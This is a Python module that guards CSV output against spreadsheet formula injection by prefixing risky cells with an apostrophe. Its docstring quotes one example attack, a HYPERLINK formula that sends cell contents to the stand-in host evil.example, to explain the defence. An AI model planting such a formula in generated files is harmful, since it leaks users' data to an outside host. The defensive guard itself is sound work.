"""Cells of the CSV files the workbench writes, made safe to open in a spreadsheet.

Every CSV we write is made to be opened in a spreadsheet (the Vaughn index, the case
manifest, ``workbench check``'s report), and its cells hold text we did not write: cable
text, reviewers' comments, file names from an archive. A spreadsheet runs a cell beginning
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula (OWASP, "CSV
Injection": ``=HYPERLINK("http://evil.example/?"&A1,"click")`` sends the sheet away, and
``-2+3`` is a formula too). One guard for every writer, so that none is forgotten.
"""

from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(cell: str) -> str:
    """``cell``, with a leading apostrophe when a spreadsheet would run it as a formula: the
    apostrophe makes it text (the spreadsheet shows the cell without it). A lone ``-`` (the
    path of standard input in ``workbench check``) is no formula and stays as it is."""
    if cell[:1] in _FORMULA_STARTS and cell != "-":
        return "'" + cell
    return cell
